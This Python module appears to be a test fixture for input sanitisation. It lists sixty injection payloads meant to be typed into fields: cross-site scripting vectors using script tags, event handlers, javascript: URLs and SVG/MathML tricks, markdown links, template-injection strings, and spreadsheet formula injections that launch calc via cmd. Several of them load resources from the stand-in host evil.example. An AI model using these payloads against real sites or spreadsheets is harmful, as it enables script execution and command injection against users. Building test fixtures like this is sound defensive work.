"""What people with bad intentions write into fields: sixty texts that would run, load or break out somewhere."""

#: `ran` is set by whatever runs; the elsewhere is never reached, and asking for it is noticed.
RUN = "window.ran=1"
ELSEWHERE = "https://evil.example"

PAYLOADS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={ELSEWHERE}/x.js></script>",
    f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'//>",
    f"<img/src=x/onerror={RUN}>", f"<img src=`x` onerror={RUN}>", f"<img src={ELSEWHERE}/pixel.png>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math href='javascript:{RUN}'>x</math>",
    f"<body onload={RUN}>", f"<iframe src='javascript:{RUN}'></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data='javascript:{RUN}'></object>", f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>", f"<button formaction='javascript:{RUN}'>x</button>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<select autofocus onfocus={RUN}>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>", f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<p style=\"background:url({ELSEWHERE}/p.png)\">x</p>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='{ELSEWHERE}/'>", f"<template><script>{RUN}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"\" onmouseover={RUN} x=\"", f"' autofocus onfocus={RUN} '",
    f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"[x](javascript:{RUN})", f"![x]({ELSEWHERE}/p.png)",
    f"[x]: javascript:{RUN}\n[x]", "${window.ran=1}", "{{constructor.constructor('window.ran=1')()}}",
    "<%= window.ran=1 %>", "=HYPERLINK(\"https://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
]
assert len(PAYLOADS) == 60
